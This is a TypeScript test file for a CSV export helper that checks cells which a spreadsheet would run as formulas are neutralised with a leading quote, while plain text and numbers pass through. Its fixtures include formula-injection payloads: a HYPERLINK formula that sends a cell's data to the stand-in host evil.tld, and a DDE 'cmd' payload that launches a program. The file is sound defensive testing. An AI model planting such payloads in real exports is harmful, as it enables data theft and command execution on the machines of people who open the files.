import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.ts';

const cells = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

describe('toCsv, the one writer of every CSV export', () => {
  it('makes a cell that a spreadsheet would run as a formula text: a quote before it', () => {
    const dangerous = [
      '=HYPERLINK("https://evil.tld/?"&A1,"Refund")',
      '+91 98450 12345',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ];
    const csv = toCsv({ fields: ['cell'], data: dangerous.map((cell) => [cell]) });
    expect(cells(csv).slice(1)).toEqual(dangerous.map((cell) => [`'${cell}`]));
    // Quoted, with the cell's own quotes doubled, as RFC 4180 writes them.
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.tld/?""&A1,""Refund"")"`);
  });

  it('leaves plain text, and numbers, negative ones included, as they are', () => {
    const csv = toCsv({
      fields: ['text', 'amount', 'refund', 'count'],
      data: [
        ['Lenovo ThinkPad E14 = good', '72990.00', '-1250.00', 3],
        ['a-b', '-7', -12.5, -2],
      ],
    });
    expect(cells(csv)).toEqual([
      ['text', 'amount', 'refund', 'count'],
      ['Lenovo ThinkPad E14 = good', '72990.00', '-1250.00', '3'],
      ['a-b', '-7', '-12.5', '-2'],
    ]);
  });

  it('escapes a minus that is not a whole plain number: an exponent, a sum, a reference', () => {
    const csv = toCsv([['-1e5'], ['-1.5.2'], ['-A1'], ['-12.50 '], ['- 3']]);
    expect(cells(csv).map(([cell]) => cell)).toEqual(["'-1e5", "'-1.5.2", "'-A1", "'-12.50 ", "'- 3"]);
  });

  it('writes rows without a header too (a settlement summary)', () => {
    expect(
      toCsv([
        ['net_payable_inr', '-10.00'],
        ['note', '=1'],
      ]),
    ).toBe('net_payable_inr,-10.00\r\nnote,"\'=1"');
  });
});
